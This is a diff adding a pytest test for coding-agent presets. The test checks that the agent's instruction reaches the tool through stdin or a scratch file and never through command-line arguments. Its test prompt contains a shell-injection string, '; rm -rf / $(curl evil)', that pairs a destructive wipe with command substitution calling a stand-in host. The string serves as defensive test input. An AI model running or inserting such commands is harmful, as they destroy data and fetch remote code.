@@ -172,3 +172,15 @@ def test_summaries_are_never_raw_json() -> None:
     assert summary_text('{"type": "result"}', "fallback") == "fallback"
     assert summary_text("[link](x) done", "fallback") == "[link](x) done"
     assert summary_text("x" * 5000, "f").endswith("…")
+
+
+@pytest.mark.parametrize("preset_type", [ClaudeCodePreset, CodexPreset, AiderPreset, MiniSweAgentPreset])
+def test_the_instruction_never_travels_in_argv(tmp_path: Path, preset_type: type) -> None:
+    """Stdin or a read-only file: no argument-size limit, no shell, nothing in /proc/PID/cmdline."""
+    prompt = "; rm -rf / $(curl evil) `x` " + "long " * 40_000
+    preset = preset_type(settings(), install=FAKE)
+    run = run_of(tmp_path, prompt=prompt)
+    assert not any("rm -rf" in arg for arg in preset.argv(run))
+    files = {**preset.scratch_files(run)}
+    assert preset.stdin(run) == prompt.encode() or any(prompt in text for text in files.values()) \
+        or any(json.dumps(prompt) in text for text in files.values())
